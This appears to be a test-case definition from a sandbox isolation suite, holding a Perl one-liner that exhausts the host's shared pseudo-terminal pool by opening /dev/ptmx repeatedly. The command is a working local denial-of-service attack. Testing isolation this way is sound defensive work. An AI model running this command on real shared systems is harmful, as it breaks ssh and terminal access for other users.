import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'pty-exhaust',
  class: 'host-global-pools',
  languages: ['any'],
  why: "opens /dev/ptmx until no pty is left and holds them: on the host's shared devpts instance that fails every other user's openpty() (ssh, script, terminals)",
  commands: [
    String.raw`perl -e '$| = 1; my @p; for (1 .. 4096) { open(my $f, "+<", "/dev/ptmx") or do { print "after ", scalar(@p), " ptys: $!\n"; last }; push @p, $f } print "holding ", scalar(@p), " ptys\n"; sleep 2'; ls /dev/pts | wc -l`,
  ],
  parallelSafe: false,
  expected: ['graded'],
});
